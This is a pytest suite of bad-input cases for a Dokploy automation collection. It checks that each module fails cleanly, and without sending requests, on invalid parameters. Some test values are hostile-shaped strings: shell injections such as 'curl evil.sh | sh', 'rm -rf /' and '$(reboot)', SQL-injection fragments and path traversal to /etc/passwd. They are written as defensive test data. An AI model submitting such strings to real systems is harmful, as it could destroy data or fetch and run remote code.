# -*- coding: utf-8 -*-
# Copyright: dokploy.dokploy contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Bad input: invalid parameters for every module and for the inventory plugin, driven as a user would.

Each module case runs the real module (its ``main()``, in-process, see harness.py) against one simulator and
checks that it fails, that ``msg`` names the option and says what is expected, that nothing looks like a
traceback, and, where the problem can be known without Dokploy (``local``), that not a single request was sent.
A problem only Dokploy can reveal (an ambiguous or unknown name) may read, never write.

The figures (cases tried, with a clear error, that sent a request) go to tests/output/bad_input.json and to the
end of the pytest output.
"""

from __future__ import absolute_import, division, print_function

__metaclass__ = type

import json
import os
import urllib.request

import pytest

from harness import SUMMARY, run_inventory, run_module
from simulator import Simulator

API_KEY = "bad-input-suite-" + "k" * 24
OUTPUT = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "output", "bad_input.json")
LONG = "x" * 5000
MISSING_ID = "AbCdEfGhIjKlMnOpQrStU"   # well formed, but no object has it
PUBLIC_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBadInputSuiteKeyOnlyForShape deploy@example"
PRIVATE_KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU=\n-----END OPENSSH PRIVATE KEY-----\n"


class Case(object):
    """``module`` run with ``args`` must fail; ``msg`` must name ``option`` and contain ``expect``."""

    def __init__(self, module, args, option, expect, local=True, label=None):
        self.module = module
        self.args = args
        self.option = option
        self.expect = expect
        self.local = local
        self.label = label or option

    @property
    def id(self):
        return "%s-%s" % (self.module.replace("dokploy_", ""), self.label)


def app(label, option, expect, local=True, **args):
    return Case("dokploy_application", dict({"project": "shop", "name": "web"}, **args), option, expect, local, label)


def compose(label, option, expect, local=True, **args):
    return Case("dokploy_compose", dict({"project": "shop", "name": "stack"}, **args), option, expect, local, label)


def database(label, option, expect, local=True, **args):
    return Case("dokploy_database", dict({"project": "shop", "name": "pg", "type": "postgres"}, **args), option, expect,
                local, label)


def domain(label, option, expect, local=True, **args):
    return Case("dokploy_domain", dict({"project": "shop", "application": "web", "host": "shop.example.com"}, **args),
                option, expect, local, label)


def child(module, label, option, expect, local=True, **args):
    """A case of a module whose object hangs off the application 'web'."""
    return Case("dokploy_%s" % module, dict({"project": "shop", "application": "web"}, **args), option, expect, local,
                label)


def env(label, option, expect, local=True, **args):
    return Case("dokploy_env", dict({"project": "shop", "application": "web"}, **args), option, expect, local, label)


CASES = [
    # -- connection options (every module) -------------------------------------------------------------------------
    Case("dokploy_project", {"name": "shop", "timeout": -1}, "timeout", "positive", label="negative-timeout"),
    Case("dokploy_project", {"name": "shop", "timeout": 0}, "timeout", "positive", label="zero-timeout"),
    Case("dokploy_project", {"name": "shop", "timeout": "soon"}, "timeout", "int", label="timeout-not-int"),
    Case("dokploy_project", {"name": "shop", "validate_certs": "maybe"}, "validate_certs", "bool", label="validate-certs"),
    Case("dokploy_project", {"name": "shop", "api_key": ""}, "api_key", "DOKPLOY_API_KEY", label="empty-api-key"),
    Case("dokploy_project", {"name": "shop", "api_url": ""}, "api_url", "DOKPLOY_API_URL", label="empty-api-url"),
    Case("dokploy_project", {"name": "shop", "api_url": "dokploy.example.com:3000"}, "api_url", "http",
         label="api-url-no-scheme"),
    Case("dokploy_project", {"name": "shop", "api_url": "ftp://127.0.0.1/"}, "api_url", "http", label="api-url-ftp"),
    # -- dokploy_project --------------------------------------------------------------------------------------------
    Case("dokploy_project", {}, "name", "one of", label="no-identity"),
    Case("dokploy_project", {"name": ""}, "name", "empty", label="empty-name"),
    Case("dokploy_project", {"name": "   "}, "name", "empty", label="blank-name"),
    Case("dokploy_project", {"name": "shop\nprod"}, "name", "line", label="newline-name"),
    Case("dokploy_project", {"name": "shop\x00"}, "name", "line", label="nul-in-name"),
    Case("dokploy_project", {"name": "shop", "state": "gone"}, "state", "one of", label="unknown-state"),
    Case("dokploy_project", {"name": "shop", "force": "sure"}, "force", "bool", label="force-not-bool"),
    Case("dokploy_project", {"name": "shop", "colour": "red"}, "colour", "Supported parameters", label="unknown-option"),
    Case("dokploy_project", {"name": "twin"}, "project_id", "IDs", local=False, label="ambiguous-name"),
    Case("dokploy_project", {"project_id": "1' OR '1'='1"}, "project_id", "ID", label="sql-shaped-id"),
    Case("dokploy_project", {"project_id": "../../etc/passwd"}, "project_id", "ID", label="path-shaped-id"),
    Case("dokploy_project", {"project_id": MISSING_ID}, "project", "No project", local=False, label="unknown-id"),
    # -- dokploy_environment ----------------------------------------------------------------------------------------
    Case("dokploy_environment", {"name": "staging"}, "project", "one of", label="no-project"),
    Case("dokploy_environment", {"project": "shop", "project_id": MISSING_ID, "name": "staging"}, "project_id",
         "mutually exclusive", label="project-and-id"),
    Case("dokploy_environment", {"project": "shop", "name": ""}, "name", "empty", label="empty-name"),
    Case("dokploy_environment", {"project": "shop", "name": "stag\ning"}, "name", "line", label="newline-name"),
    Case("dokploy_environment", {"project": "", "name": "staging"}, "project", "empty", label="empty-project"),
    Case("dokploy_environment", {"project": "nope", "name": "staging"}, "project", "No project", local=False,
         label="unknown-project"),
    Case("dokploy_environment", {"project": "twin", "name": "staging"}, "project_id", "IDs", local=False,
         label="ambiguous-project"),
    Case("dokploy_environment", {"project": "shop", "name": "production", "state": "absent"}, "environment",
         "cannot be deleted", local=False, label="delete-default"),
    Case("dokploy_environment", {"environment_id": "$(reboot)"}, "environment_id", "ID", label="shell-shaped-id"),
    # -- dokploy_application ----------------------------------------------------------------------------------------
    Case("dokploy_application", {"project": "shop"}, "name", "one of", label="no-identity"),
    Case("dokploy_application", {"name": "web"}, "project", "project", label="name-without-project"),
    app("empty-name", "name", "empty", name=""),
    app("newline-name", "name", "line", name="web\nrm -rf /"),
    app("shell-image", "docker_image", "Docker image", docker_image="$(rm -rf /)"),
    app("unicode-image", "docker_image", "Docker image", docker_image="nginx:läuft"),
    app("long-image", "docker_image", "Docker image", docker_image="a" * 600),
    app("image-with-space", "docker_image", "Docker image", docker_image="nginx latest"),
    app("build-type", "build_type", "one of", build_type="maven"),
    app("replicas-negative", "replicas", "0 or more", replicas=-2),
    app("replicas-not-int", "replicas", "int", replicas="many"),
    app("memory-limit", "memory_limit", "512M", memory_limit="lots"),
    app("memory-limit-negative", "memory_limit", "512M", memory_limit="-1G"),
    app("cpu-limit", "cpu_limit", "CPUs", cpu_limit="fast"),
    app("memory-reservation-above-limit", "memory_reservation", "memory_limit", memory_limit="256M",
        memory_reservation="1G"),
    app("cpu-reservation-above-limit", "cpu_reservation", "cpu_limit", cpu_limit="0.5", cpu_reservation="2"),
    app("git-url-not-a-url", "git_url", "Git URL", git_url="not a url", git_branch="main"),
    app("git-url-file", "git_url", "Git URL", git_url="file:///etc", git_branch="main"),
    app("git-branch-space", "git_branch", "branch name", git_url="https://github.com/a/b.git", git_branch="my branch"),
    app("git-branch-shell", "git_branch", "branch name", git_url="https://github.com/a/b.git", git_branch="main;reboot"),
    app("provider-branch", "git_provider.branch", "branch name",
        git_provider={"type": "github", "name": "p", "repository": "r", "owner": "o", "branch": "a b"}),
    app("empty-environment", "environment", "empty", environment=""),
    app("env-nested", "env", "string, a number or a boolean", env={"A": {"b": 1}, "L": [1, 2]}),
    app("env-bad-key", "env", "must not start with a digit", env={"1ABC": "value-x"}),
    app("env-key-shell", "env", "whitespace", env={"A;rm -rf /": "value-x"}),
    app("env-key-unicode", "env", "valid variable name", env={"ÄPFEL": "value-x"}),
    app("env-list", "env", "dict of variables", env=["A=1"]),
    app("build-args-nested", "build_args", "string, a number or a boolean", build_args={"A": [1]}),
    app("build-secrets-key", "build_secrets", "whitespace", build_secrets={"BAD KEY": "value-x"}),
    app("env-mode", "env_mode", "one of", env_mode="append"),
    app("watch-paths-without-git", "watch_paths", "Git source", watch_paths=["src/**"]),
    app("registry-without-image", "registry_url", "docker_image", registry_url="registry.example.com"),
    app("git-url-without-branch", "git_branch", "git_url", git_url="https://github.com/a/b.git"),
    app("image-and-git", "docker_image", "mutually exclusive", docker_image="nginx", git_url="https://x/y.git",
        git_branch="main"),
    app("empty-git-branch", "git_branch", "empty", git_url="https://github.com/a/b.git", git_branch=" "),
    app("git-provider-type", "git_provider", "one of",
        git_provider={"type": "svn", "name": "p", "repository": "r", "owner": "o", "branch": "main"}),
    app("git-provider-missing", "git_provider", "repository", git_provider={"type": "github", "name": "p"}),
    app("git-provider-wrong-type-option", "git_provider", "only applies",
        git_provider={"type": "github", "name": "p", "repository": "r", "owner": "o", "branch": "main",
                      "gitlab_project_id": 3}),
    app("build-path-traversal", "git_build_path", "..", git_url="https://github.com/a/b.git", git_branch="main",
        git_build_path="../../"),
    app("negative-poll-interval", "poll_interval", "negative", state="deployed", poll_interval=-1),
    app("negative-wait-timeout", "wait_timeout", "negative", state="deployed", wait_timeout=-30),
    app("negative-log-lines", "log_lines", "negative", state="deployed", log_lines=-5),
    app("state", "state", "one of", state="running"),
    app("server-and-id", "server", "mutually exclusive", server="edge", server_id=MISSING_ID),
    app("application-id-sql", "application_id", "ID", application_id="x'; DROP TABLE application;--"),
    app("unknown-project", "project", "No project", local=False, project="nope"),
    app("unknown-environment", "environment", "environment", local=False, environment="nope"),
    app("ambiguous-project", "project_id", "IDs", local=False, project="twin"),
    app("unknown-server", "server", "server", local=False, name="new-web", server="nowhere"),
    # -- dokploy_compose --------------------------------------------------------------------------------------------
    Case("dokploy_compose", {"project": "shop"}, "name", "one of", label="no-identity"),
    compose("compose-type", "compose_type", "one of", compose_type="swarm"),
    compose("file-and-git", "compose_file", "mutually exclusive", compose_file="services: {}",
            git_url="https://x/y.git"),
    compose("branch-without-git", "git_branch", "git_url", git_branch="main"),
    compose("compose-file-not-yaml", "compose_file", "line 3", compose_file="services:\n  web:\n\timage: nginx\n"),
    compose("compose-file-no-services", "compose_file", "defines no services", compose_file="version: '3.8'\n"),
    compose("ssh-key-without-git", "git_ssh_key", "git_url", git_ssh_key="deploy"),
    compose("empty-compose-path", "compose_path", "empty", compose_path=" "),
    compose("compose-path-traversal", "compose_path", "..", compose_path="../../etc/passwd"),
    compose("git-branch-dots", "git_branch", "branch name", git_url="git@github.com:a/b.git", git_branch="main..dev"),
    compose("git-url-local-path", "git_url", "Git URL", git_url="/srv/repos/app"),
    compose("missing-compose-src", "compose_src", "cannot read", compose_src="/nonexistent/docker-compose.yml"),
    compose("provider-build-path", "git_provider", "compose_path",
            git_provider={"type": "github", "name": "p", "repository": "r", "owner": "o", "branch": "main",
                          "build_path": "/"}),
    compose("delete-volumes", "delete_volumes", "bool", delete_volumes="all"),
    compose("env-key", "env", "valid variable name", env={"KEY-": "value-x", "-KEY": "value-y"}),
    compose("negative-wait-timeout", "wait_timeout", "negative", state="deployed", wait_timeout=-1),
    compose("compose-id-shell", "compose_id", "ID", name=None, compose_id="`id`"),
    # -- dokploy_database -------------------------------------------------------------------------------------------
    Case("dokploy_database", {"project": "shop", "name": "pg"}, "type", "missing required", label="no-type"),
    database("unknown-type", "type", "one of", type="oracle"),
    database("option-of-other-type", "database_name", "redis", type="redis", database_name="app"),
    database("root-password-postgres", "database_root_password", "postgres", database_root_password="Secret123"),
    database("port-too-high", "external_port", "65535", external_port=70000),
    database("port-negative", "external_port", "65535", external_port=-1),
    database("port-not-int", "external_port", "int", external_port="5432/tcp"),
    database("memory-limit", "memory_limit", "512M", memory_limit="1 gig"),
    database("cpu-negative", "cpu_limit", "CPUs", cpu_limit="-1"),
    database("empty-database-name", "database_name", "empty", database_name=""),
    database("mysql-root-user", "database_user", "root", type="mysql", database_user="root", database_name="app"),
    database("shell-image", "docker_image", "Docker image", docker_image="postgres:16; curl evil.sh | sh"),
    database("password-characters", "database_password", "characters", database_password="pass word'\"/$"),
    database("update-password", "update_password", "one of", update_password="sometimes"),
    database("sqld-node-type", "sqld_node", "not available for type postgres", sqld_node="primary"),
    database("replicas-negative", "replicas", "negative", replicas=-1),
    database("negative-poll-interval", "poll_interval", "negative", state="started", poll_interval=-0.5),
    database("env-nested", "env", "string, a number or a boolean", env={"A": {"nested": True}}),
    database("unknown-project", "project", "No project", local=False, project="nope"),
    # -- dokploy_domain ---------------------------------------------------------------------------------------------
    Case("dokploy_domain", {"project": "shop", "host": "shop.example.com"}, "application", "one of",
         label="no-service"),
    Case("dokploy_domain", {"project": "shop", "application": "web"}, "host", "missing required", label="no-host"),
    domain("empty-host", "host", "empty", host=""),
    domain("scheme-in-host", "host", "host name", host="https://shop.example.com"),
    domain("port-in-host", "host", "host name", host="shop.example.com:8443"),
    domain("unicode-host", "host", "host name", host="bücher.example.com"),
    domain("underscore-host", "host", "host name", host="my_shop.example.com"),
    domain("shell-host", "host", "host name", host="shop.example.com;reboot"),
    domain("long-host", "host", "host name", host=".".join(["a" * 60] * 5)),
    domain("long-label", "host", "host name", host="%s.example.com" % ("a" * 64)),
    domain("newline-host", "host", "host name", host="shop.example.com\nevil.com"),
    domain("port-zero", "port", "between 1 and 65535", port=0),
    domain("port-too-high", "port", "between 1 and 65535", port=65536),
    domain("path-relative", "path", "start with '/'", path="api"),
    domain("path-traversal", "path", "..", path="/../admin"),
    domain("path-with-space", "path", "spaces", path="/a b"),
    domain("internal-path", "internal_path", "start with '/'", internal_path="v1"),
    domain("certificate-type", "certificate_type", "one of", certificate_type="selfsigned"),
    domain("letsencrypt-without-https", "certificate_type", "https", certificate_type="letsencrypt"),
    domain("custom-without-resolver", "custom_cert_resolver", "custom", https=True, certificate_type="custom"),
    domain("service-name-on-application", "service_name", "compose", service_name="web"),
    Case("dokploy_domain", {"project": "shop", "compose": "stack", "host": "a.example.com"}, "service_name",
         "missing parameter", label="compose-without-service-name"),
    domain("application-and-compose", "application", "mutually exclusive", compose="stack", service_name="web"),
    domain("name-without-project", "application", "project", project=None),
    domain("empty-application", "application", "empty", application=" "),
    domain("ambiguous-application", "application_id", "IDs", local=False, application="twinapp"),
    domain("unknown-application", "application", "no application", local=False, application="ghost"),
    # -- dokploy_env ------------------------------------------------------------------------------------------------
    Case("dokploy_env", {"project": "shop"}, "env", "one of", label="nothing-to-set"),
    env("no-target", "project", "one of", project=None, application=None, env={"A": "value-one"}),
    env("build-args-on-compose", "build_args", "applications", application=None, compose="stack",
        build_args={"A": "value-one"}),
    env("build-args-on-project", "build_args", "applications", application=None, build_args={"A": "value-one"}),
    env("key-with-space", "env", "whitespace", env={"MY KEY": "value-one"}),
    env("key-sql", "env", "must not contain", env={"A' OR 1=1 --": "value-one"}),
    env("value-dict", "env", "string, a number or a boolean", env={"A": {"b": 1}}),
    env("value-list", "build_secrets", "string, a number or a boolean", build_secrets={"TOKEN": ["value-a", "value-b"]}),
    env("env-string", "env", "dict of variables", env="A=1"),
    env("exclusive-absent", "exclusive", "state=present", state="absent", exclusive=True, env={"A": None}),
    env("empty-environment", "environment", "empty", application=None, environment="", env={"A": "value-one"}),
    env("database-without-type", "database_type", "database", application=None, database="pg", env={"A": "value-one"}),
    env("ambiguous-project", "project_id", "IDs", local=False, project="twin", application=None, env={"A": "value-one"}),
    env("unknown-environment", "environment", "environment", local=False, environment="qa", application=None,
        env={"A": "value-one"}),
    # -- children of a service: basic auth, mounts, ports, redirects --------------------------------------------------
    child("basic_auth", "no-username", "username", "missing required", password="Secret123"),
    child("basic_auth", "colon-in-username", "username", "':'", username="ad:min", password="Secret123"),
    child("basic_auth", "newline-username", "username", "line", username="ad\nmin", password="Secret123"),
    child("basic_auth", "empty-password", "password", "empty", username="admin", password=""),
    child("basic_auth", "no-password", "password", "missing", username="admin"),
    child("basic_auth", "compose-target", "compose", "Unsupported parameters", username="admin", password="Secret123",
          compose="stack"),
    child("mount", "relative-mount-path", "mount_path", "absolute", type="volume", volume_name="data",
          mount_path="data"),
    child("mount", "unknown-type", "type", "one of", type="tmpfs", mount_path="/data"),
    child("mount", "relative-host-path", "host_path", "absolute", type="bind", host_path="data", mount_path="/data"),
    child("mount", "volume-name", "volume_name", "volume name", type="volume", volume_name="a b", mount_path="/data"),
    child("mount", "file-path-traversal", "file_path", "'..'", type="file", file_path="../../etc/passwd",
          content="x=1", mount_path="/etc/app.ini"),
    child("mount", "option-of-other-type", "host_path", "not for volume", type="volume", volume_name="data",
          host_path="/srv", mount_path="/data"),
    child("port", "published-zero", "published_port", "between 1 and 65535", published_port=0, target_port=80),
    child("port", "target-too-high", "target_port", "between 1 and 65535", published_port=8080, target_port=70000),
    child("port", "protocol", "protocol", "one of", published_port=8080, target_port=80, protocol="sctp"),
    child("port", "port-not-int", "published_port", "int", published_port="eighty", target_port=80),
    child("redirect", "broken-regex", "regex", "regular expression", regex="([", replacement="/"),
    child("redirect", "lookaround", "regex", "lookaround", regex="^/(?!api)", replacement="/"),
    child("redirect", "no-replacement", "replacement", "missing", regex="^/old"),
    # -- dokploy_rollback -------------------------------------------------------------------------------------------
    Case("dokploy_rollback", {"project": "shop", "application": "web", "to": "v1 please"}, "to", "'previous'",
         label="rollback-to"),
    Case("dokploy_rollback", {"project": "shop", "application": "web", "settle_time": -1}, "settle_time", "negative",
         label="rollback-negative-settle-time"),
    Case("dokploy_rollback", {"project": "shop", "application": "web", "wait_for": "forever"}, "wait_for", "one of",
         label="rollback-wait-for"),
    Case("dokploy_rollback", {"project": "shop", "application": "web", "compose": "stack"}, "compose", "Unsupported parameters",
         label="rollback-compose"),
    Case("dokploy_rollback", {"project": "shop", "application": "ghost"}, "application", "no application",
         local=False, label="rollback-unknown-application"),
    # -- schedules, destinations and backups ----------------------------------------------------------------------
    child("schedule", "cron-words", "cron_expression", "cron expression", name="nightly", command="echo hi",
          cron_expression="every day"),
    child("schedule", "cron-out-of-range", "cron_expression", "cron expression", name="nightly", command="echo hi",
          cron_expression="61 * * * *"),
    child("schedule", "timezone", "timezone", "time zone", name="nightly", command="echo hi",
          cron_expression="0 3 * * *", timezone="Mars/Olympus_Mons"),
    child("schedule", "script-on-application", "script", "command", name="nightly", script="echo hi",
          cron_expression="0 3 * * *"),
    child("schedule", "empty-command", "command", "empty", name="nightly", command=" ", cron_expression="0 3 * * *"),
    child("schedule", "shell-type", "shell_type", "one of", name="nightly", command="echo hi",
          cron_expression="0 3 * * *", shell_type="zsh"),
    Case("dokploy_schedule", {"dokploy_host": False, "name": "n", "script": "echo", "cron_expression": "0 3 * * *"},
         "dokploy_host", "owner", label="dokploy-host-false"),
    Case("dokploy_destination", {"name": "s3", "endpoint": "s3.amazonaws.com"}, "endpoint", "URL",
         label="endpoint-without-scheme"),
    Case("dokploy_destination", {"name": "s3", "bucket": "my bucket/../x"}, "bucket", "bucket name", label="bucket"),
    Case("dokploy_destination", {"name": "s3", "additional_flags": ["; rm -rf /"]}, "additional_flags", "rclone flag",
         label="shell-flag"),
    Case("dokploy_destination", {"name": "s3", "access_key": " "}, "access_key", "empty", label="empty-access-key"),
    Case("dokploy_destination", {"name": ""}, "name", "empty", label="empty-name"),
    Case("dokploy_backup", {"project": "shop", "database": "pg", "database_type": "postgres", "destination": "s3",
                            "keep_latest": 0}, "keep_latest", "at least 1", label="keep-latest-zero"),
    Case("dokploy_backup", {"project": "shop", "database": "pg", "database_type": "postgres", "destination": "s3",
                            "cron_expression": "0 25 * * *"}, "cron_expression", "cron expression", label="cron-hour"),
    Case("dokploy_backup", {"project": "shop", "database": "pg", "database_type": "postgres", "destination": "s3",
                            "service_name": "db"}, "service_name", "compose", label="service-name-on-database"),
    Case("dokploy_backup", {"project": "shop", "database": "pg", "database_type": "postgres"}, "destination",
         "missing required", label="no-destination"),
    Case("dokploy_backup", {"project": "shop", "database": "cache", "database_type": "redis", "destination": "s3"},
         "database_type", "redis", label="redis"),
    Case("dokploy_backup_info", {"web_server": False}, "web_server", "names nothing", label="web-server-false"),
    child("volume_backup", "volume-name", "volume_name", "volume name", name="nightly", volume_name="../data",
          destination="s3", cron_expression="0 1 * * *"),
    child("volume_backup", "cron", "cron_expression", "cron expression", name="nightly", volume_name="data",
          destination="s3", cron_expression="* * *"),
    child("volume_backup", "service-name-on-application", "service_name", "compose", name="nightly",
          volume_name="data", destination="s3", cron_expression="0 1 * * *", service_name="db"),
    # -- registries, servers, SSH keys -----------------------------------------------------------------------------
    Case("dokploy_registry", {"name": "ghcr", "url": "https://ghcr.io/acme"}, "url", "host name", label="url-with-scheme"),
    Case("dokploy_registry", {"name": "ghcr", "username": " "}, "username", "empty", label="blank-username"),
    Case("dokploy_registry", {"name": "ghcr\nx"}, "name", "line", label="newline-name"),
    Case("dokploy_server", {"name": "edge", "ip_address": "ssh://root@10.0.0.1:22"}, "ip_address", "IP address",
         label="ip-with-scheme"),
    Case("dokploy_server", {"name": "edge", "port": 0}, "port", "between 1 and 65535", label="port-zero"),
    Case("dokploy_server", {"name": "edge", "username": "root; reboot"}, "username", "user name", label="shell-username"),
    Case("dokploy_server", {"name": "edge", "setup": True, "state": "absent"}, "setup", "absent", label="setup-absent"),
    Case("dokploy_server", {"name": "edge", "wait_timeout": -1}, "wait_timeout", "negative", label="negative-wait"),
    Case("dokploy_server_info", {"name": ""}, "name", "empty", label="empty-name"),
    Case("dokploy_ssh_key", {"name": "deploy", "private_key": "not a key", "public_key": PUBLIC_KEY}, "private_key",
         "private key",
         label="private-key"),
    Case("dokploy_ssh_key", {"name": "deploy", "private_key": PRIVATE_KEY, "public_key": "ssh-dss AAAA x"}, "public_key",
         "public key",
         label="public-key"),
    Case("dokploy_ssh_key", {"name": "deploy", "key_type": "dsa", "generate": True}, "key_type", "one of",
         label="key-type"),
    # -- a whole project ---------------------------------------------------------------------------------------------
    Case("dokploy_stack", {"project": " "}, "project", "empty", label="blank-project"),
    Case("dokploy_stack", {"project": "shop", "environments": {"production": {"applications": {
        "web": {"docker_image": "$(reboot)"}}}}}, "docker_image", "Docker image", label="nested-image"),
    Case("dokploy_stack", {"project": "shop", "environments": {"production": {"applications": {
        "web": {"domains": [{"host": "https://shop.example.com"}]}}}}}, "host", "host name", label="nested-host"),
    Case("dokploy_stack", {"project": "shop", "environments": {"production": {"databases": {
        "pg": {"type": "postgres", "external_port": 70000}}}}}, "external_port", "65535", label="nested-port"),
    Case("dokploy_stack", {"project": "shop", "environments": "production"}, "environments", "dict",
         label="environments-not-a-dict"),
    Case("dokploy_stack_info", {"project": "shop", "include_secrets": "maybe"}, "include_secrets", "bool",
         label="include-secrets"),
    # -- administration (issue 21) ------------------------------------------------------------------------------------
    Case("dokploy_api_key", {"name": "x" * 33}, "name", "at most 32", label="long-name"),
    Case("dokploy_api_key", {"name": "ci", "expires_in": 60}, "expires_in", "86400", label="short-expiry"),
    Case("dokploy_api_key", {"name": "ci", "rate_limit_max": 5}, "rate_limit_max", "rate_limit_enabled",
         label="limit-without-rate-limit"),
    Case("dokploy_api_key", {"name": "ci", "refill_interval": 1000}, "refill_interval", "refill_amount",
         label="interval-without-amount"),
    Case("dokploy_user", {"email": "nobody"}, "email", "not an e-mail address", label="bad-email"),
    Case("dokploy_user", {"email": "dev@example.com", "password": "short"}, "password", "8 characters",
         label="short-password"),
    Case("dokploy_user", {"email": "dev@example.com", "role": "owner"}, "role", "never transferred", label="owner-role"),
    Case("dokploy_user", {"email": "dev@example.com", "role": "developer"}, "role", "Valid enterprise license required",
         local=False, label="custom-role-without-licence"),
    Case("dokploy_user", {"email": "dev@example.com", "services": ["shop/web"]}, "services",
         "project/environment/service", label="service-path"),
    Case("dokploy_user", {"email": "dev@example.com", "projects": ["nope"]}, "projects", "nothing is named",
         local=False, label="unknown-project"),
    Case("dokploy_organization", {"name": " "}, "name", "empty", label="blank-name"),
    Case("dokploy_organization", {"name": "x", "default_role": "owner"}, "default_role", "one of", label="owner-default"),
    Case("dokploy_organization", {"name": "x", "organization_id": MISSING_ID}, "organization", "no organisation",
         local=False, label="unknown-id"),
    Case("dokploy_settings", {"server": "edge", "host": "panel.example.com"}, "host", "Dokploy server itself",
         label="web-setting-on-server"),
    Case("dokploy_settings", {"cron_expression": "nightly"}, "cron_expression", "cron", label="bad-cron"),
    Case("dokploy_settings", {"builds_concurrency": 500}, "builds_concurrency", "1 to 100", label="concurrency"),
    Case("dokploy_settings", {"traefik_ports": [{"published_port": 80, "target_port": 80}]}, "traefik_ports",
         "Traefik's own", label="port-80"),
    Case("dokploy_settings", {"actions": ["reboot"]}, "actions", "one or more of", label="unknown-action"),
    Case("dokploy_settings", {"server": "nope", "docker_cleanup": True}, "server", "No server", local=False,
         label="unknown-server"),
    Case("dokploy_ai_provider", {"name": "openai", "url": "api.openai.com"}, "url", "must be a URL", label="bad-url"),
    Case("dokploy_ai_provider", {"name": "openai", "model": "gpt"}, "provider_api_key", "needs url, provider_api_key",
         local=False, label="create-without-key"),
    Case("dokploy_vault_provider", {"name": "my vault"}, "name", "letters, digits", label="bad-name"),
    Case("dokploy_vault_provider", {"name": "vault", "type": "aws", "config": {"secretAccessKey": "x"}}, "secret",
         "give it as secret", label="secret-in-config"),
    Case("dokploy_vault_provider", {"name": "vault", "config": {"url": "https://v.example.com"}}, "type",
         "config needs type", label="config-without-type"),
    Case("dokploy_vault_provider", {"name": "vault", "type": "hashicorp", "config": {"region": "eu"}}, "config",
         "takes url", label="foreign-key"),
    # -- info modules -----------------------------------------------------------------------------------------------
    Case("dokploy_project_info", {"name": "shop", "project_id": MISSING_ID}, "name", "mutually exclusive",
         label="name-and-id"),
    Case("dokploy_application_info", {"name": "web"}, "project", "one of", label="no-project"),
    Case("dokploy_application_info", {"project": "nope"}, "project", "No project", local=False, label="unknown-project"),
    Case("dokploy_compose_info", {"compose_id": MISSING_ID, "colour": 1}, "colour", "Supported parameters",
         label="unknown-option"),
    Case("dokploy_database_info", {"type": "oracle"}, "type", "one of", label="unknown-type"),
    Case("dokploy_database_info", {"database_id": MISSING_ID}, "type", "database_id", label="id-without-type"),
    Case("dokploy_deployment_info", {"project": "shop"}, "application", "one of", label="no-service"),
    Case("dokploy_deployment_info", {"project": "shop", "application": "web", "log_lines": -1}, "log_lines", "negative",
         label="negative-log-lines"),
    Case("dokploy_deployment_info", {"project": "shop", "application": "web", "type": "database"}, "type", "one of",
         label="database-type"),
    Case("dokploy_deployment_info", {"project": "shop", "application": "web", "deployment_id": MISSING_ID},
         "deployment", "no deployment", local=False, label="unknown-deployment"),
]

INVENTORY_CASES = [
    ("bogus-option", "bogus_option: 1\n", "bogus_option"),
    ("keyed-groups-not-a-list", "keyed_groups: engine\n", "keyed_groups"),
    ("keyed-groups-without-key", "keyed_groups:\n  - prefix: engine\n", "keyed_groups"),
]


def api(sim, procedure, body):
    """Seed the simulator through its API, as another Dokploy client would (names need not be unique there)."""
    request = urllib.request.Request("%s/api/%s" % (sim.url, procedure), data=json.dumps(body).encode("utf-8"),
                                     headers={"x-api-key": sim.api_key, "Content-Type": "application/json"})
    with urllib.request.urlopen(request, timeout=10) as answer:
        text = answer.read().decode("utf-8")
    return json.loads(text) if text else None


@pytest.fixture(scope="module")
def sim():
    with Simulator(api_key=API_KEY) as simulator:
        shop = api(simulator, "project.create", {"name": "shop"})
        production = shop["environment"]["environmentId"]
        for procedure, name in (("application.create", "web"), ("application.create", "twinapp"),
                                ("application.create", "twinapp"), ("compose.create", "stack")):
            api(simulator, procedure, {"name": name, "environmentId": production})
        api(simulator, "postgres.create", {"name": "pg", "environmentId": production, "databaseName": "app",
                                           "databaseUser": "app", "databasePassword": "Secret123"})
        api(simulator, "project.create", {"name": "twin"})
        api(simulator, "project.create", {"name": "twin"})
        yield simulator


class Outcome(object):
    """What one case did and whether it met the bar."""

    def __init__(self, case, run, requests):
        self.case = case
        self.run = run
        self.requests = requests
        self.writes = [r for r in requests if r["method"] != "GET"]
        msg = run.msg
        self.problems = []
        if not run.failed:
            self.problems.append("did not fail")
        if case.option.lower() not in msg.lower():
            self.problems.append("msg does not name %s" % case.option)
        if case.expect.lower() not in msg.lower():
            self.problems.append("msg does not say %r" % case.expect)
        if run.shows_traceback:
            self.problems.append("traceback")
        if case.local and requests:
            self.problems.append("sent %d request(s) for a problem known locally" % len(requests))
        if self.writes:
            self.problems.append("wrote: %s" % ", ".join(r["path"] for r in self.writes))

    def row(self):
        return {"case": self.case.id, "module": self.case.module, "option": self.case.option,
                "failed": self.run.failed, "clear_error": not self.problems, "traceback": self.run.shows_traceback,
                "requests": len(self.requests), "local": self.case.local, "msg": self.run.msg,
                "problems": self.problems}


OUTCOMES = {}


def outcome(sim, case):
    if case.id not in OUTCOMES:
        args = dict((k, v) for k, v in case.args.items() if v is not None)
        args.setdefault("api_url", sim.url)
        args.setdefault("api_key", sim.api_key)
        sim.clear_requests()
        run = run_module(case.module, args)
        OUTCOMES[case.id] = Outcome(case, run, sim.requests())
    return OUTCOMES[case.id]


def test_case_ids_are_unique():
    ids = [case.id for case in CASES]
    assert len(ids) == len(set(ids)), sorted(i for i in ids if ids.count(i) > 1)


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_bad_input(sim, case):
    result = outcome(sim, case)
    assert not result.problems, "%s: %s (msg: %s)" % (case.id, "; ".join(result.problems), result.run.msg)


INVENTORY_OUTCOMES = {}


@pytest.mark.parametrize("label, config, option", INVENTORY_CASES, ids=[c[0] for c in INVENTORY_CASES])
def test_bad_inventory_config(sim, tmp_path, label, config, option):
    sim.clear_requests()
    proc = run_inventory(sim, tmp_path, config)
    requests = sim.requests()
    output = proc.stdout + proc.stderr
    problems = []
    if proc.returncode == 0:
        problems.append("did not fail")
    if option not in proc.stderr:
        problems.append("the error does not name %s" % option)
    if "Traceback" in output:
        problems.append("traceback")
    if requests:
        problems.append("sent %d request(s) before refusing its configuration" % len(requests))
    INVENTORY_OUTCOMES[label] = {"case": "inventory-%s" % label, "module": "inventory", "option": option,
                                 "failed": proc.returncode != 0, "clear_error": not problems,
